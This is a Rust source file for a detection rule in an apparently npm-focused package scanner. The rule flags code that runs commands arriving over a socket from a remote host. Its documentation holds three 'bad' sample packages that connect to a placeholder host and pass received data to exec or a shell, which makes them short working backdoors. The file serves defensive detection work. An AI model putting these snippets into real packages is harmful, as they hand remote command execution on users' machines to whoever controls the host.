//! # A host sends commands over a socket
//!
//! What comes over a socket that the package opened by itself is run as a command or as code.
//!
//! ## Why it matters
//!
//! That is a remote control: its holder does on the machine whatever its user may.
//!
//! ## Known benign uses
//!
//! Live reload and chat clients act on a fixed set of messages. Debuggers and language servers run commands
//! of a client on the same machine.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { exec } = require("child_process");
//! const socket = require("socket.io-client")("http://collector.invalid:5918");
//! socket.on("command", (text) => exec(text, (error, out) => socket.emit("result", out))); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.mjs"}
//! == index.mjs
//! import WebSocket from "ws";
//! import { spawn } from "node:child_process";
//! const socket = new WebSocket("wss://collector.invalid/");
//! socket.on("message", (data) => spawn("sh", ["-c", String(data)])); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const client = require("net").connect(9001, "collector.invalid");
//! client.on("data", (data) => require("child_process").exec(data.toString())); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const socket = new WebSocket("ws://localhost:35729");
//! socket.onmessage = ({ data }) => { if (JSON.parse(data).type === "reload") location.reload(); };
//! ```
//!
//! ## References
//!
//! - Socket: OtterCookie (November 2025)
//! - rand-user-agent incident analyses (May 2025)

use crate::prelude::*;

/// A host sends commands over a socket.
pub struct RemoteCommandsOverSocket;

impl Rule for RemoteCommandsOverSocket {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "remote-commands-over-socket",
            title: "A host sends commands over a socket",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1219",
            covers: &["exfil-websocket", "impact-remote-shell"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_remote = |source: &Source| match source {
            Source::Network(Some(host)) => host.class() != HostClass::Local,
            Source::Network(None) => true,
            _ => false,
        };
        let runs = |sink: &Sink| matches!(sink, Sink::Command(_) | Sink::Code);
        let is_page_worker = |flow: &&FlowFact| matches!(&*flow.api, "Worker" | "SharedWorker");
        let is_project = facts.context().origin == Origin::Project;
        for flow in facts.flows(is_remote, runs).filter(|flow| comes_over_socket(facts, flow)) {
            if is_page_worker(&flow) {
                continue;
            }
            let is_started = is_project && matches!(flow.trigger, Trigger::Bin | Trigger::Build);
            if flow.trigger.runs_unasked() || is_started {
                found.flow(flow);
            }
        }
    }
}

fn comes_over_socket(facts: &Facts<'_>, flow: &FlowFact) -> bool {
    const SOCKETS: [&str; 7] = ["socket.io-client", "ws", "WebSocket", "EventSource", "net", "tls", "dgram"];
    facts.all_calls().iter().filter(|call| call.spot == flow.source_spot).any(|call| {
        SOCKETS.iter().any(|socket| {
            call.api.strip_prefix(socket).is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
        })
    })
}
